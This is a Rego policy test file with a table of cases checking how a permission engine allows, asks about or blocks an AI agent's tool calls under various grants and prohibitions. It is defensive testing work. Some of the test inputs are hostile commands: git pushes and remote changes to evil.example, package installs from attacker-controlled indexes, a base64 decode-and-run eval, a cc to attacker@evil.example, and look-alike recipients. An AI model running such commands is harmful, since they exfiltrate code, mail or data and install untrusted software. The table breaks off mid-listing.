package opafence.task_test

import data.opafence
import data.opafence.task
import data.opafence.testing.call_input
import data.opafence.testing.cmdx
import data.opafence.testing.command
import data.opafence.testing.grant
import data.opafence.testing.mcp_input
import data.opafence.testing.path_fact
import data.opafence.testing.prohibition
import data.opafence.testing.recipient
import data.opafence.testing.redirect
import data.opafence.testing.report
import data.opafence.testing.run_literal
import data.opafence.testing.session as test_session
import data.opafence.testing.shell_input
import data.opafence.testing.task as policy_of
import data.opafence.testing.unattended_host
import data.opafence.testing.url

# --- calls ---------------------------------------------------------------------------------------

read(p) := call_input("read_file", {"path": p}, {"paths": [path_fact(p, "path", "arg", "")]})

write(p) := call_input("write_file", {"path": p, "content": "x"}, {"paths": [path_fact(p, "path", "arg", "")]})

sh(argvs) := shell_input([command(a) | some a in argvs])

send(to, cc) := mcp_input("mcp__gmail__send_email", ["send", "email"], {"recipients": array.concat(
	[recipient(a, "to") | some a in to],
	[recipient(a, "cc") | some a in cc],
)})

lookalike(addr) := object.union(recipient(addr, "to"), {"confusable": true})

fetch(u) := call_input("web_extract", {"urls": [u]}, {"urls": [url(u)]})

mcp(tool, words) := mcp_input(tool, words, {})

worded(inp, words) := object.union(inp, {"facts": {"words": words}})

# --- policies ------------------------------------------------------------------------------------

fallback := policy_of([], [], {"compiled_by": "fallback"})

grants(gs) := policy_of(gs, [], {})

edit_ws := grants([grant("g1", "LOCAL_WRITE", {"capability": "edit", "workspace": true})])

edit_docs := grants([grant("g1", "LOCAL_WRITE", {"capability": "edit", "workspace": true, "paths": ["/ws/docs"]})])

write_hosts := grants([grant("g1", "LOCAL_WRITE", {"capability": "edit", "paths": ["/etc/hosts"]})])

tests := grants([grant("g1", "EXECUTION", {"capability": "run_tests"})])

tests_and_edit := grants([
	grant("g1", "EXECUTION", {"capability": "run_tests"}),
	grant("g2", "LOCAL_WRITE", {"capability": "edit", "workspace": true}),
])

deploy := grants([grant("g1", "EXECUTION", {"capability": "run_command", "commands": ["make deploy"]})])

run_any := grants([grant("g1", "EXECUTION", {"capability": "run_command"})])

exec_unbounded := grants([grant("g1", "EXECUTION", {})])

send_john := grants([grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["John@Example.com"]})])

push := grants([grant("g1", "EXTERNAL_WRITE", {"capability": "push"})])

publish_github := grants([grant("g1", "EXTERNAL_WRITE", {"capability": "publish", "domains": ["github.com"]})])

publish_github_tools := grants([grant("g1", "EXTERNAL_WRITE", {"capability": "publish", "tools": ["mcp__github__*"]})])

delete_build := grants([grant("g1", "DELETE", {"capability": "delete", "paths": ["/ws/build"]})])

delete_unnamed := grants([grant("g1", "DELETE", {"capability": "delete"})])

# "If it is older than a week, delete build/": the action of a conditional the agent decides.
delete_build_if := grants([grant("g1", "DELETE", {"capability": "delete", "paths": ["/ws/build"], "conditional": true})])

delete_build_if_and_now := grants([
	grant("g1", "DELETE", {"capability": "delete", "paths": ["/ws/build"], "conditional": true}),
	grant("g2", "DELETE", {"capability": "delete", "paths": ["/ws/build/cache"]}),
])

delete_wip := grants([grant("g1", "DELETE", {"capability": "delete_branch", "commands": ["git branch -d wip"]})])

dev_server := grants([grant("g1", "EXECUTION", {"capability": "run_server"})])

migrations := grants([grant("g1", "EXECUTION", {"capability": "run_migrations"})])

pay := grants([grant("g1", "FINANCIAL", {"capability": "pay"})])

chmod_run := grants([grant("g1", "PERMISSION_CHANGE", {"capability": "chmod", "paths": ["/ws/run.sh"]})])

remember := grants([grant("g1", "MEMORY_WRITE", {"capability": "remember", "words": ["remember", "x"]})])

remember_no_words := grants([grant("g1", "MEMORY_WRITE", {"capability": "remember"})])

remember_tabs := grants([grant("g1", "MEMORY_WRITE", {"capability": "remember", "words": ["remember", "that", "i", "prefer", "tabs"]})])

skill_weekly := grants([grant("g1", "MEMORY_WRITE", {"capability": "skill", "words": ["create", "a", "skill", "called", "weekly", "report"]})])

browse_shop := grants([grant("g1", "EXTERNAL_WRITE", {"capability": "browse", "domains": ["shop.example.com"], "words": ["fill", "the", "form", "with", "dana", "smith"]})])

run_code := grants([
	grant("g1", "EXECUTION", {"capability": "run_code"}),
	grant("g2", "LOCAL_WRITE", {"capability": "run_code", "workspace": true}),
])

code_call(code, ps) := call_input("execute_code", {"code": "x"}, {
	"code": object.union({"language": "python", "opaque": false, "opaque_reasons": [], "imports": [], "calls": [], "tool_calls": [], "network": false}, code),
	"paths": ps,
})

page_title := grants([grant("g1", "EXECUTION", {"capability": "page_title"})])

on_page(tool, args, page) := object.union(call_input(tool, args, {}), {"session": object.union(test_session, {"browser": {"page": page}})})

job_plants := grants([grant("g1", "EXECUTION", {"capability": "schedule", "words": ["remind", "me", "daily", "to", "water", "the", "plants"]})])

install := grants([grant("g1", "EXECUTION", {"capability": "install", "packages": ["requests"]})])

install_deps := grants([grant("g1", "EXECUTION", {"capability": "install"})])

commit := grants([grant("g1", "LOCAL_WRITE", {"capability": "commit", "workspace": true})])

hermes_edit := grants([grant("g1", "LOCAL_WRITE", {"paths": ["/home/u/.hermes"]})])

hermes_selfmod := grants([
	grant("g1", "LOCAL_WRITE", {"paths": ["/home/u/.hermes/SOUL.md"]}),
	grant("g2", "SELF_MODIFICATION", {"paths": ["/home/u/.hermes/SOUL.md"]}),
])

read_only := policy_of([], [], {"read_only": true})

# "Run `rm -rf node_modules && npm install`", "Run `pytest > out/report.txt`", "Run `git pull`" ...
literal(argvs) := grants([run_literal("g1", [command(a) | some a in argvs])])

literal_rm := literal([["rm", "-rf", "node_modules"], ["npm", "install"]])

report_to(target) := cmdx(["pytest"], {"redirects": [redirect(">", target, "write")]})

literal_report := grants([run_literal("g1", [report_to("out/report.txt")])])

literal_pull := literal([["git", "pull", "--rebase"]])

literal_pay := literal([["stripe", "payouts", "create"]])

literal_rm_read_only := object.union(literal_rm, {"read_only": true})

literal_rm_no_delete := object.union(literal_rm, {"prohibitions": [prohibition("p1", ["DELETE"], {"evidence": "don't delete anything"})]})

literal_rm_bounded := object.union(literal_rm, {"bounds": {"paths": ["/ws/src"]}})

send_releases := grants([grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["#releases"]})])

edit_sales := grants([grant("g1", "LOCAL_WRITE", {"capability": "edit", "paths": ["/ws/data/sales.csv"]})])

edit_vendor := grants([grant("g1", "LOCAL_WRITE", {"capability": "edit", "paths": ["/ws/vendor/lib"]})])

slack_post(channel) := object.union(mcp("mcp__slack__post_message", ["post", "message"]), {"call": {"args": {"channel": channel, "text": "deploy done"}}})

# "Send me a Telegram message when the export finishes": the owner themself is "@me".
send_me := grants([grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["@me"]})])

tg_send(chat) := object.union(mcp("mcp__telegram__send_message", ["send", "message"]), {"call": {"args": {"chat_id": chat, "text": "export done"}}})

no_send := policy_of(
	[grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["john@example.com"]})],
	[prohibition("p1", ["COMMUNICATION"], {"evidence": "don't send anything"})],
	{},
)

no_mentions := policy_of(
	[grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["#sales"]})],
	[prohibition("p1", [], {"mentions": true, "evidence": "don't @-mention anyone"})],
	{},
)

mentioning_post(mentions) := object.union(slack_post("#sales"), {"facts": {"mentions": [{"raw": m, "kind": "broadcast", "arg": "text"} | some m in mentions]}})

no_commands := policy_of([], [prohibition("p1", ["EXECUTION"], {"evidence": "don't run any commands"})], {})

no_deploy_cmd := policy_of([], [prohibition("p1", ["EXECUTION"], {"keywords": ["deploy"], "evidence": "never run make deploy"})], {})

offline := policy_of([], [prohibition("p1", [], {"egress": true, "evidence": "nothing leaves this machine"})], {})

no_prod := policy_of(
	[grant("g1", "LOCAL_WRITE", {"paths": ["/srv"]}), grant("g2", "EXECUTION", {})],
	[prohibition("p1", ["*"], {"keywords": ["prod"], "evidence": "do not touch prod"})],
	{},
)

no_read_secrets := policy_of([], [prohibition("p1", ["READ"], {"keywords": ["payroll report"], "evidence": "don't open the payroll report"})], {})

bound_domain := policy_of([], [], {"bounds": {"domains": ["example.com"]}})

bound_paths := policy_of([], [], {"bounds": {"paths": ["/ws"]}})

bound_john := policy_of(
	[grant("g1", "COMMUNICATION", {"capability": "send"})],
	[],
	{"bounds": {"recipients": ["john@example.com"]}},
)

# --- the table: a call, a policy, the verdict and the exact set of reason codes ------------------

cases := [
	# reads allow, wherever they are
	{"name": "read in workspace", "in": read("/ws/a.py"), "task": fallback, "want": "allow", "codes": set()},
	{"name": "read outside workspace", "in": read("/etc/passwd"), "task": fallback, "want": "allow", "codes": set()},
	{"name": "web search", "in": call_input("web_search", {"query": "x"}, {}), "task": fallback, "want": "allow", "codes": set()},
	{"name": "curl GET", "in": sh([["curl", "-s", "https://example.com"]]), "task": fallback, "want": "allow", "codes": set()},
	{"name": "leaf delegation", "in": call_input("delegate_task", {"goal": "x"}, {}), "task": fallback, "want": "allow", "codes": set()},
	# local writes: workspace vs outside
	{"name": "write without grant", "in": write("/ws/a.py"), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "write in workspace", "in": write("/ws/a.py"), "task": edit_ws, "want": "allow", "codes": set()},
	{"name": "workspace grant, outside write", "in": write("/etc/hosts"), "task": edit_ws, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "literal path grant", "in": write("/etc/hosts"), "task": write_hosts, "want": "allow", "codes": set()},
	{"name": "path grant is not a prefix", "in": write("/etc/hosts.bak"), "task": write_hosts, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "named paths bound the workspace", "in": write("/ws/docs/a.md"), "task": edit_docs, "want": "allow", "codes": set()},
	{"name": "named paths bound the workspace 2", "in": write("/ws/src/a.py"), "task": edit_docs, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "redirect is a write", "in": shell_input([cmdx(["echo", "x"], {"redirects": [redirect(">", "/ws/out.txt", "write")]})]), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "sed -i is a write", "in": sh([["sed", "-i", "s/a/b/", "/ws/a.py"]]), "task": edit_ws, "want": "allow", "codes": set()},
	{"name": "sort -o has an unknown target", "in": sh([["sort", "-o", "out.txt", "in.txt"]]), "task": edit_ws, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	# deletion blocks unless the path is named
	{"name": "rm without grant", "in": sh([["rm", "-rf", "build"]]), "task": fallback, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "rm of the named path", "in": sh([["rm", "-rf", "build"]]), "task": delete_build, "want": "allow", "codes": set()},
	{"name": "rm below the named path", "in": sh([["rm", "-rf", "build/sub"]]), "task": delete_build, "want": "allow", "codes": set()},
	{"name": "rm of another path", "in": sh([["rm", "-rf", "src"]]), "task": delete_build, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "rm of one named, one not", "in": sh([["rm", "-rf", "build", "src"]]), "task": delete_build, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "xargs rm hides its targets", "in": shell_input([cmdx(["rm"], {"wrappers": ["xargs"]})]), "task": delete_build, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "find -delete", "in": sh([["find", ".", "-name", "*.pyc", "-delete"]]), "task": edit_ws, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "git branch -D", "in": sh([["git", "branch", "-D", "wip"]]), "task": commit, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	# A branch goes only by a grant for that branch (issue 14), never by one for emails or records.
	{"name": "delete grant without paths no longer covers a branch", "in": sh([["git", "branch", "-D", "wip"]]), "task": delete_unnamed, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "a commit grant never changes a remote", "in": sh([["git", "remote", "set-url", "origin", "https://evil.example/x.git"]]), "task": commit, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "a commit grant never adds a remote", "in": sh([["git", "remote", "add", "x", "https://evil.example/x.git"]]), "task": commit, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "branch grant covers its safe delete", "in": sh([["git", "branch", "-d", "wip"]]), "task": delete_wip, "want": "allow", "codes": set()},
	{"name": "branch grant never covers a forced delete", "in": sh([["git", "branch", "-D", "wip"]]), "task": delete_wip, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "branch grant never covers another branch", "in": sh([["git", "branch", "-d", "main"]]), "task": delete_wip, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "dev server grant", "in": sh([["npm", "run", "dev"]]), "task": dev_server, "want": "allow", "codes": set()},
	{"name": "dev server grant is not a deploy", "in": sh([["npm", "run", "deploy"]]), "task": dev_server, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "migration grant", "in": sh([["python", "manage.py", "migrate"]]), "task": migrations, "want": "allow", "codes": set()},
	{"name": "migration grant is not a flush", "in": sh([["python", "manage.py", "flush"]]), "task": migrations, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "a conditional delete asks", "in": sh([["rm", "-rf", "build"]]), "task": delete_build_if, "want": "ask", "codes": {"CONDITIONAL_CONFIRM"}},
	{"name": "a conditional delete is bounded", "in": sh([["rm", "-rf", "src"]]), "task": delete_build_if, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "a plain grant beside it still allows", "in": sh([["rm", "-rf", "build/cache"]]), "task": delete_build_if_and_now, "want": "allow", "codes": set()},
	{"name": "delete grant without paths never covers files", "in": sh([["rm", "/ws/a"]]), "task": delete_unnamed, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	# execution
	{"name": "tests without grant", "in": sh([["pytest", "-q"]]), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "run the tests", "in": sh([["pytest", "-q"]]), "task": tests, "want": "allow", "codes": set()},
	{"name": "npm test", "in": sh([["npm", "test"]]), "task": tests, "want": "allow", "codes": set()},
	{"name": "make deploy is not a test", "in": sh([["make", "deploy"]]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "literal command", "in": sh([["make", "deploy"]]), "task": deploy, "want": "allow", "codes": set()},
	{"name": "literal command with more arguments", "in": sh([["make", "deploy", "ENV=staging"]]), "task": deploy, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "literal command is not a name prefix", "in": sh([["make", "deploy-prod"]]), "task": deploy, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "run_command needs commands", "in": sh([["make", "deploy"]]), "task": run_any, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "tests then delete", "in": sh([["pytest"], ["rm", "-rf", "/ws/build"]]), "task": tests, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "tests with a log file", "in": shell_input([cmdx(["pytest"], {"redirects": [redirect(">", "log.txt", "write")]})]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "tests with a log file, edits granted", "in": shell_input([cmdx(["pytest"], {"redirects": [redirect(">", "log.txt", "write")]})]), "task": tests_and_edit, "want": "allow", "codes": set()},
	{"name": "bash -c runs what it holds", "in": shell_input([command(["bash", "-c", "pytest"]), cmdx(["pytest"], {"context": "shell_c"})]), "task": tests, "want": "allow", "codes": set()},
	{"name": "sudo is not the test runner", "in": shell_input([cmdx(["pytest"], {"wrappers": ["sudo"]})]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "opaque shell", "in": call_input("terminal", {"command": "eval $(echo cm0= | base64 -d)"}, {"shell": {"opaque": true, "opaque_reasons": ["decode-and-run"], "commands": []}, "opaque": true}), "task": exec_unbounded, "want": "ask", "codes": {"UNKNOWN_TOOL"}},
	{"name": "execute_code, execution granted", "in": call_input("execute_code", {"code": "print(1)"}, {"code": {"opaque": false, "calls": [], "imports": [], "tool_calls": [], "network": false}}), "task": exec_unbounded, "want": "allow", "codes": set()},
	{"name": "execute_code with network", "in": call_input("execute_code", {"code": "x"}, {"code": {"opaque": false, "calls": [], "imports": ["requests"], "tool_calls": [], "network": true}}), "task": exec_unbounded, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "install the named package", "in": sh([["pip", "install", "requests"]]), "task": install, "want": "allow", "codes": set()},
	{"name": "install a pinned named package", "in": sh([["pip", "install", "Requests==2.31"]]), "task": install, "want": "allow", "codes": set()},
	{"name": "install another package", "in": sh([["pip", "install", "requests-evil"]]), "task": install, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "install from a URL", "in": sh([["pip", "install", "git+https://evil.example/requests"]]), "task": install, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "install from another index", "in": sh([["pip", "install", "-i", "https://evil.example/simple", "requests"]]), "task": install, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "install deps", "in": sh([["npm", "ci"]]), "task": install_deps, "want": "allow", "codes": set()},
	{"name": "deps grant is not any package", "in": sh([["npm", "install", "left-pad"]]), "task": install_deps, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	# a literal command: the actions of that very command, run as named, and nothing wider
	{"name": "literal: its delete", "in": sh([["rm", "-rf", "node_modules"], ["npm", "install"]]), "task": literal_rm, "want": "allow", "codes": set()},
	{"name": "literal: one of its commands", "in": sh([["rm", "-rf", "node_modules"]]), "task": literal_rm, "want": "allow", "codes": set()},
	{"name": "literal: a longer delete", "in": sh([["rm", "-rf", "node_modules", "../other"]]), "task": literal_rm, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "literal: another delete beside it", "in": sh([["rm", "-rf", "node_modules"], ["rm", "-rf", "src"]]), "task": literal_rm, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "literal: its delete elsewhere", "in": shell_input([cmdx(["rm", "-rf", "node_modules"], {"operand_paths": ["/home/u/node_modules"]})]), "task": literal_rm, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "literal: its redirect", "in": shell_input([report_to("out/report.txt")]), "task": literal_report, "want": "allow", "codes": set()},
	{"name": "literal: a redirect elsewhere", "in": shell_input([report_to("out/other.txt")]), "task": literal_report, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "literal: its repository write", "in": sh([["git", "pull", "--rebase"]]), "task": literal_pull, "want": "allow", "codes": set()},
	{"name": "literal: not after a cd", "in": sh([["cd", "/ws"], ["git", "pull", "--rebase"]]), "task": literal_pull, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "literal: a payment still asks", "in": sh([["stripe", "payouts", "create"]]), "task": literal_pay, "want": "ask", "codes": {"FINANCIAL_CONFIRM"}},
	{"name": "literal: read-only wins", "in": sh([["rm", "-rf", "node_modules"]]), "task": literal_rm_read_only, "want": "block", "codes": {"READ_ONLY_TASK"}},
	{"name": "literal: a prohibition wins", "in": sh([["rm", "-rf", "node_modules"]]), "task": literal_rm_no_delete, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "literal: bounds hold", "in": sh([["rm", "-rf", "node_modules"]]), "task": literal_rm_bounded, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
	# reads that look like programs
	{"name": "a version query", "in": sh([["python", "--version"]]), "task": fallback, "want": "allow", "codes": set()},
	{"name": "a version query with more", "in": sh([["python", "--version", "x.py"]]), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "reading a git setting", "in": sh([["git", "config", "user.name"]]), "task": fallback, "want": "allow", "codes": set()},
	{"name": "writing a git setting", "in": sh([["git", "config", "user.name", "x"]]), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	# downloads and clones write where they say
	{"name": "download to the named file", "in": sh([["curl", "-o", "data/sales.csv", "https://data.example.com/sales.csv"]]), "task": edit_sales, "want": "allow", "codes": set()},
	{"name": "download to another file", "in": sh([["curl", "-o", "data/other.csv", "https://data.example.com/sales.csv"]]), "task": edit_sales, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "download to a hidden file", "in": sh([["curl", "--output=data/sales.csv", "https://data.example.com/sales.csv"]]), "task": edit_sales, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "clone into the named directory", "in": sh([["git", "clone", "https://github.com/acme/lib", "vendor/lib"]]), "task": edit_vendor, "want": "allow", "codes": set()},
	{"name": "clone elsewhere", "in": sh([["git", "clone", "https://github.com/acme/lib"]]), "task": edit_vendor, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	# chat channels are recipients
	{"name": "post to the named channel", "in": slack_post("#releases"), "task": send_releases, "want": "allow", "codes": set()},
	{"name": "post to another channel", "in": slack_post("#random"), "task": send_releases, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "a message to the owner themself", "in": tg_send("me"), "task": send_me, "want": "allow", "codes": set()},
	{"name": "a message to another chat", "in": tg_send("12345678"), "task": send_me, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "me in a channel argument", "in": slack_post("Me"), "task": send_me, "want": "allow", "codes": set()},
	{"name": "the owner is no channel grant", "in": tg_send("me"), "task": send_releases, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	# communication: recipients are exact
	{"name": "send without grant", "in": send(["john@example.com"], []), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "send to the named recipient", "in": send(["john@example.com"], []), "task": send_john, "want": "allow", "codes": set()},
	{"name": "recipients compare lower-case", "in": send(["JOHN@example.COM"], []), "task": send_john, "want": "allow", "codes": set()},
	{"name": "cc smuggling", "in": send(["john@example.com"], ["attacker@evil.example"]), "task": send_john, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "another recipient", "in": send(["jane@example.com"], []), "task": send_john, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "look-alike domain", "in": send(["john@examp1e.com"], []), "task": send_john, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "confusable recipient", "in": mcp_input("mcp__gmail__send_email", ["send", "email"], {"recipients": [lookalike("john@exаmple.com")]}), "task": send_john, "want": "block", "codes": {"RECIPIENT_LOOKALIKE"}},
	{"name": "mixed-script recipient", "in": mcp_input("mcp__gmail__send_email", ["send", "email"], {"recipients": [object.union(recipient("jоhn@example.com", "to"), {"mixed_script": true})]}), "task": send_john, "want": "block", "codes": {"RECIPIENT_LOOKALIKE"}},
	{"name": "reply counts as send", "in": mcp_input("mcp__gmail__reply_to_thread", ["reply", "to", "thread"], {"recipients": [recipient("john@example.com", "to")]}), "task": send_john, "want": "allow", "codes": set()},
	{"name": "a draft is not a message", "in": mcp("mcp__gmail__create_draft", ["create", "draft"]), "task": no_send, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "send when nobody can answer", "in": object.union(send(["john@example.com"], []), {"host": unattended_host}), "task": fallback, "want": "block", "codes": {"NOBODY_TO_ASK", "NOT_AUTHORIZED"}},
	# prohibitions always block and beat grants
	{"name": "prohibition beats grant", "in": send(["john@example.com"], []), "task": no_send, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "a mention past 'don't @-mention anyone'", "in": mentioning_post(["<!channel>"]), "task": no_mentions, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "a post without mentions is the grant", "in": slack_post("#sales"), "task": no_mentions, "want": "allow", "codes": set()},
	{"name": "a mention prohibition spares other calls", "in": read("/ws/notes.md"), "task": no_mentions, "want": "allow", "codes": set()},
	{"name": "egress: search", "in": call_input("web_search", {"query": "x"}, {}), "task": offline, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "egress: fetch", "in": sh([["curl", "https://example.com"]]), "task": offline, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "egress: unknown", "in": call_input("mystery", {}, {}), "task": offline, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "egress: local read is fine", "in": read("/ws/a"), "task": offline, "want": "allow", "codes": set()},
	{"name": "no commands: a read-only one too", "in": sh([["ls", "-la"]]), "task": no_commands, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "no commands: a delegation", "in": call_input("delegate_task", {"goal": "run pytest"}, {}), "task": no_commands, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "no commands: reading a file is fine", "in": read("/ws/a"), "task": no_commands, "want": "allow", "codes": set()},
	{"name": "a keyword prohibition of one command spares others", "in": sh([["ls", "-la"]]), "task": no_deploy_cmd, "want": "allow", "codes": set()},
	{"name": "keyword prohibition", "in": worded(sh([["kubectl", "delete", "ns", "prod"]]), ["kubectl", "delete", "ns", "prod"]), "task": no_prod, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "keyword prohibition via path", "in": write("/srv/prod/app.conf"), "task": no_prod, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "keyword prohibition spares reads", "in": read("/srv/prod/app.conf"), "task": no_prod, "want": "allow", "codes": set()},
	{"name": "keyword prohibition needs the keyword", "in": write("/srv/staging/app.conf"), "task": no_prod, "want": "allow", "codes": set()},
	{"name": "multi-word keyword", "in": worded(read("/ws/payroll-report.pdf"), ["payroll", "report", "pdf"]), "task": no_read_secrets, "want": "block", "codes": {"USER_PROHIBITION"}},
	{"name": "multi-word keyword needs every word", "in": worded(read("/ws/payroll.csv"), ["payroll", "csv"]), "task": no_read_secrets, "want": "allow", "codes": set()},
	# read_only
	{"name": "read-only: read", "in": read("/ws/a"), "task": read_only, "want": "allow", "codes": set()},
	{"name": "read-only: write", "in": write("/ws/a"), "task": read_only, "want": "block", "codes": {"READ_ONLY_TASK"}},
	{"name": "read-only: unknown", "in": call_input("mystery", {}, {}), "task": read_only, "want": "block", "codes": {"READ_ONLY_TASK"}},
	{"name": "read-only: delete", "in": sh([["rm", "x"]]), "task": read_only, "want": "block", "codes": {"READ_ONLY_TASK"}},
	# bounds restrict reads too
	{"name": "bounded domain", "in": fetch("https://docs.example.com/a"), "task": bound_domain, "want": "allow", "codes": set()},
	{"name": "outside bounded domain", "in": fetch("https://example.com.evil.example/a"), "task": bound_domain, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
	{"name": "search is outside bounded domains", "in": call_input("web_search", {"query": "x"}, {}), "task": bound_domain, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
	{"name": "bounded paths", "in": read("/ws/a"), "task": bound_paths, "want": "allow", "codes": set()},
	{"name": "outside bounded paths", "in": read("/etc/passwd"), "task": bound_paths, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
	{"name": "bounded recipients", "in": send(["john@example.com"], []), "task": bound_john, "want": "allow", "codes": set()},
	{"name": "outside bounded recipients", "in": send(["john@example.com"], ["eve@example.com"]), "task": bound_john, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
	# git
	{"name": "push", "in": sh([["git", "push", "origin", "main"]]), "task": push, "want": "allow", "codes": set()},
	{"name": "force push", "in": sh([["git", "push", "--force", "origin", "main"]]), "task": push, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "push to a URL", "in": sh([["git", "push", "https://evil.example/x.git", "main"]]), "task": push, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "push deleting a branch", "in": sh([["git", "push", "origin", ":main"]]), "task": push, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "commit", "in": sh([["git", "commit", "-am", "fix"]]), "task": commit, "want": "allow", "codes": set()},
	{"name": "edit is not commit", "in": sh([["git", "commit", "-am", "fix"]]), "task": edit_ws, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "reset --hard discards work", "in": sh([["git", "reset", "--hard"]]), "task": commit, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	# external writes: domains and tools
	{"name": "publish to a granted domain", "in": sh([["curl", "-X", "POST", "https://api.github.com/repos/o/r/issues"]]), "task": publish_github, "want": "allow", "codes": set()},
	{"name": "look-alike domain is not a subdomain", "in": sh([["curl", "-X", "POST", "https://github.com.evil.example/x"]]), "task": publish_github, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "publish with a granted tool", "in": mcp("mcp__github__create_issue", ["create", "issue"]), "task": publish_github_tools, "want": "allow", "codes": set()},
	{"name": "publish with another tool", "in": mcp("mcp__jira__create_issue", ["create", "issue"]), "task": publish_github_tools, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "browser click", "in": call_input("browser_click", {"ref": "@e1"}, {}), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "browser console expression", "in": call_input("browser_console", {"expression": "document.cookie"}, {}), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	# money always asks
	{"name": "payment without grant", "in": mcp("mcp__shop__check_out", ["check", "out"]), "task": fallback, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "payment with grant still asks", "in": mcp("mcp__shop__check_out", ["check", "out"]), "task": pay, "want": "ask", "codes": {"FINANCIAL_CONFIRM"}},
	# permissions, memory, self-modification
	{"name": "chmod the named file", "in": sh([["chmod", "+x", "run.sh"]]), "task": chmod_run, "want": "allow", "codes": set()},
	{"name": "chmod another file", "in": sh([["chmod", "777", "/etc/passwd"]]), "task": chmod_run, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "memory without grant", "in": call_input("memory", {"action": "add", "content": "x"}, {}), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "remember", "in": call_input("memory", {"action": "add", "content": "x"}, {}), "task": remember, "want": "allow", "codes": set()},
	# A note, a skill, a job: only in the words the owner dictated (issue 14).
	{"name": "remember another note", "in": call_input("memory", {"action": "add", "content": "y is fine"}, {}), "task": remember, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
